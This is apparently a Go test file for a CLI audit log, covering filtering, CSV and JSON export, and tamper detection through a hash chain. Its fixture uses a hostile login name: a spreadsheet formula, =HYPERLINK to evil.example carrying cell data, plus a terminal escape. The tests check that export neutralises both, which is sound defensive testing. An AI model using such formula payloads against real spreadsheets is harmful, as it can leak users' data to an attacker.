package cli

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/indus-platform/indus/internal/access"
	"github.com/indus-platform/indus/internal/store"
)

// auditFixture writes a known history through the command line: two users,
// a token created and revoked, a password change, and one failed sign-in
// whose "user name" is a spreadsheet formula.
func auditFixture(t *testing.T) string {
	t.Helper()
	db := testDB(t)
	mustRun(t, db, pw, "user", "add", "alice", "--role", "admin", "--password-stdin")                  // 1
	mustRun(t, db, pw, "user", "add", "bob", "--role", "unit", "--unit", "500103", "--password-stdin") // 2
	mustRun(t, db, "", "user", "token", "bob", "--label", "=HYPERLINK(1)", "--read-only")              // 3
	mustRun(t, db, "", "user", "revoke", "1")                                                          // 4
	mustRun(t, db, "a much better passphrase\n", "user", "passwd", "bob", "--password-stdin")          // 5
	withStore(t, db, func(st *store.Store) {                                                           // 6
		_, _, _, err := access.New(st, fastPolicy()).Login(context.Background(), hostileName, "not the password", "203.0.113.7")
		if !access.IsSignInFailure(err) {
			t.Fatalf("hostile login: %v", err)
		}
	})
	return db
}

const hostileName = "=HYPERLINK(\"http://evil.example/\"&A1)\x1b[2J"

func TestAuditListsAndFilters(t *testing.T) {
	db := auditFixture(t)
	out := mustRun(t, db, "", "audit")
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 7 || strings.Join(strings.Fields(lines[0]), " ") != "SEQ AT USER ROLE ACTION TARGET REMOTE OUTCOME DETAIL" {
		t.Fatalf("audit:\n%s", out)
	}
	// seq, date, time, user, role, action, target, remote, outcome, detail…
	want := [][]string{
		{"1", "cli:tester", "admin", "user_add", "alice", "cli", "ok", "role=admin"},
		{"2", "cli:tester", "admin", "user_add", "bob", "cli", "ok", "role=unit units=500103"},
		{"3", "cli:tester", "admin", "token_create", "bob#1", "cli", "ok", "label==HYPERLINK(1) read-only"},
		{"4", "cli:tester", "admin", "token_revoke", "bob#1", "cli", "ok", ""},
		{"5", "cli:tester", "admin", "user_passwd", "bob", "cli", "ok", ""},
	}
	for i, w := range want {
		f := strings.Fields(lines[i+1])
		got := append([]string{f[0]}, f[3:]...)
		if strings.Join(got, " ") != strings.TrimSpace(strings.Join(w, " ")) {
			t.Errorf("line %d: %q, want %v", i+1, lines[i+1], w)
		}
	}
	// The hostile name is shown, but its escape sequence cannot reach the terminal.
	if strings.Contains(out, "\x1b") || !strings.Contains(lines[6], "login_failed") || !strings.Contains(lines[6], "203.0.113.7") ||
		!strings.Contains(lines[6], "no such user") {
		t.Errorf("line 6: %q", lines[6])
	}

	seqs := func(out string) string {
		var s []string
		for _, l := range strings.Split(strings.TrimRight(out, "\n"), "\n")[1:] {
			s = append(s, strings.Fields(l)[0])
		}
		return strings.Join(s, ",")
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--action", "user_add"}, "1,2"},
		{[]string{"--user", "cli:tester", "--target", "bob#1"}, "3,4"},
		{[]string{"--user", "cli:tester"}, "1,2,3,4,5"},
		{[]string{"--outcome", "failed"}, "6"},
		{[]string{"--limit", "2"}, "5,6"}, // the newest two, oldest first
		{[]string{"--action", "user_add", "--limit", "1"}, "2"},
		{[]string{"--until", time.Now().Format("2006-01-02")}, "1,2,3,4,5,6"}, // a date includes its whole day
		{[]string{"--since", time.Now().Add(-time.Hour).Format(time.RFC3339), "--action", "token_revoke"}, "4"},
	} {
		if got := seqs(mustRun(t, db, "", append([]string{"audit"}, c.args...)...)); got != c.want {
			t.Errorf("audit %v: entries %s, want %s", c.args, got, c.want)
		}
	}
	for _, args := range [][]string{
		{"--since", time.Now().AddDate(0, 0, 1).Format("2006-01-02")},
		{"--until", time.Now().AddDate(0, 0, -2).Format("2006-01-02")},
		{"--action", "nothing_like_this"},
	} {
		if got := mustRun(t, db, "", append([]string{"audit"}, args...)...); !strings.HasSuffix(got, "no matching entries\n") {
			t.Errorf("audit %v: %q", args, got)
		}
	}

	// JSON lines: one entry per line, the full record.
	out = mustRun(t, db, "", "audit", "--format", "json", "--action", "token_create")
	if strings.Count(out, "\n") != 1 {
		t.Fatalf("json: %q", out)
	}
	var e store.AuditEntry
	if err := json.Unmarshal([]byte(out), &e); err != nil {
		t.Fatal(err)
	}
	if e.Seq != 3 || e.User != "cli:tester" || e.Target != "bob#1" || e.Detail != "label==HYPERLINK(1) read-only" || len(e.SHA256) != 64 || len(e.PrevSHA256) != 64 {
		t.Errorf("json entry: %+v", e)
	}

	for _, c := range []struct {
		want string
		args []string
	}{
		{`--since "yesterday" is not a date (2026-11-29)`, []string{"--since", "yesterday"}},
		{"--since 2026-11-29 is not before --until 2026-11-28", []string{"--since", "2026-11-29", "--until", "2026-11-28"}},
		{`unknown format "yaml"`, []string{"--format", "yaml"}},
		{"xlsx needs a file", []string{"--format", "xlsx"}},
		{"--limit -1", []string{"--limit", "-1"}},
		{`audit takes no arguments, got "alice"`, []string{"alice"}},
	} {
		mustFail(t, db, "", 1, "indus audit: "+c.want, append([]string{"audit"}, c.args...)...)
	}
}

func TestAuditCSVNeutralisesAndRecordsExport(t *testing.T) {
	db := auditFixture(t)
	out := mustRun(t, db, "", "audit", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, out)
	}
	if len(recs) != 7 || strings.Join(recs[0], ",") != "seq,at,user,role,action,target,remote,outcome,detail,prev_sha256,sha256" {
		t.Fatalf("csv:\n%s", out)
	}
	failed := recs[6]
	// A formula typed as a user name at sign-in reaches the log; in the
	// export it is text, not a formula, in every cell it appears in.
	if failed[4] != "login_failed" || failed[2] != "'"+hostileName || failed[5] != "'"+hostileName || failed[6] != "203.0.113.7" ||
		failed[7] != "failed" || failed[8] != "no such user" {
		t.Errorf("login_failed row: %q", failed)
	}
	if recs[3][8] != "label==HYPERLINK(1) read-only" || recs[3][0] != "3" {
		t.Errorf("token_create row: %q", recs[3])
	}
	// Times are UTC to the microsecond, as hashed; each row links to the one before.
	for i, r := range recs[1:] {
		at, err := time.Parse(time.RFC3339Nano, r[1])
		if err != nil || at.Location() != time.UTC || time.Since(at) > time.Hour {
			t.Errorf("row %d at %q: %v", i+1, r[1], err)
		}
		if i > 0 && r[9] != recs[i][10] {
			t.Errorf("row %d does not link to row %d", i+1, i)
		}
	}

	// To a file: a BOM for Excel, the same rows, and the export itself is
	// recorded (after the rows it exported).
	path := filepath.Join(t.TempDir(), "audit.csv")
	r := indusRun(t, db, "", "audit", "--user", "cli:tester", "--out", path)
	if r.code != 0 || r.out != "" || !strings.Contains(r.stderr, "wrote 5 entries to "+path) {
		t.Fatalf("--out: %+v", r)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(data), "\ufeff") {
		t.Error("no byte-order mark")
	}
	frecs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\ufeff"))).ReadAll()
	if err != nil || len(frecs) != 6 || strings.Join(frecs[5], ",") != strings.Join(recs[5], ",") {
		t.Errorf("file: %v, %d rows", err, len(frecs))
	}
	out = mustRun(t, db, "", "audit", "--action", "export", "--format", "json")
	var e store.AuditEntry
	if err := json.Unmarshal([]byte(out), &e); err != nil {
		t.Fatalf("%v: %q", err, out)
	}
	if e.Seq != 7 || e.Target != "audit" || e.User != "cli:tester" || e.Outcome != "ok" || e.Detail != "csv rows=5 file=audit.csv user=cli:tester" {
		t.Errorf("export entry: %+v", e)
	}
	// A JSON file by its extension; no leftover temporary files.
	dir := t.TempDir()
	mustRun(t, db, "", "audit", "--out", filepath.Join(dir, "a.jsonl"), "--limit", "1")
	data, _ = os.ReadFile(filepath.Join(dir, "a.jsonl"))
	if err := json.Unmarshal(data, &e); err != nil || e.Seq != 7 {
		t.Errorf("a.jsonl: %v %s", err, data)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("files left: %v", entries)
	}
}

func TestAuditVerify(t *testing.T) {
	db := auditFixture(t)
	r := indusRun(t, db, "", "audit", "--verify")
	if r.code != 0 || !regexp.MustCompile(`^audit chain OK: 6 entries, head [0-9a-f]{64}\n$`).MatchString(r.out) {
		t.Fatalf("verify intact: %+v", r)
	}
	var head string
	if err := json.Unmarshal([]byte(mustRun(t, db, "", "audit", "--verify", "--format", "json")), &struct {
		Head *string `json:"head_sha256"`
	}{&head}); err != nil || !strings.HasSuffix(r.out, "head "+head+"\n") {
		t.Errorf("json head %q: %v", head, err)
	}
	mustFail(t, db, "", 1, "--verify prints its result on standard output", "audit", "--verify", "--out", filepath.Join(t.TempDir(), "x"))

	// Tamper with entry 2 behind the log's back.
	conn, err := sql.Open("duckdb", db)
	if err != nil {
		t.Fatal(err)
	}
	if res, err := conn.Exec(`UPDATE audit_log SET detail = 'x' WHERE seq = 2`); err != nil {
		t.Fatal(err)
	} else if n, _ := res.RowsAffected(); n != 1 {
		t.Fatalf("updated %d rows", n)
	}
	if err := conn.Close(); err != nil {
		t.Fatal(err)
	}
	r = indusRun(t, db, "", "audit", "--verify")
	if r.code != 1 || r.out != "audit chain BROKEN at entry 2: entry 2 was altered (its hash does not match its contents)\n" ||
		!strings.Contains(r.stderr, "indus audit: the audit log's hash chain is broken at entry 2 of 6") {
		t.Errorf("verify tampered: %+v", r)
	}
	var v store.AuditVerification
	r = indusRun(t, db, "", "audit", "--verify", "--format", "json")
	if err := json.Unmarshal([]byte(r.out), &v); err != nil || r.code != 1 || v.OK || v.BrokenAt != 2 || v.Entries != 6 {
		t.Errorf("verify json: %+v %v", r, err)
	}
	// Listing still works on a broken log: the evidence stays readable.
	if out := mustRun(t, db, "", "audit", "--target", "bob", "--action", "user_add"); !strings.Contains(out, "user_add") || !strings.HasSuffix(out, " x\n") {
		t.Errorf("list after tamper: %q", out)
	}
}

func TestAuditEmptyLog(t *testing.T) {
	db := testDB(t)
	if got := mustRun(t, db, "", "audit", "--verify"); got != "audit chain OK: 0 entries (the log is empty)\n" {
		t.Errorf("verify empty: %q", got)
	}
	if got := mustRun(t, db, "", "audit"); got != "SEQ  AT  USER  ROLE  ACTION  TARGET  REMOTE  OUTCOME  DETAIL\nno matching entries\n" {
		t.Errorf("empty: %q", got)
	}
	if got := mustRun(t, db, "", "audit", "--format", "csv"); got != "seq,at,user,role,action,target,remote,outcome,detail,prev_sha256,sha256\n" {
		t.Errorf("empty csv: %q", got)
	}
	if got := mustRun(t, db, "", "audit", "--format", "json"); got != "" {
		t.Errorf("empty json: %q", got)
	}
}
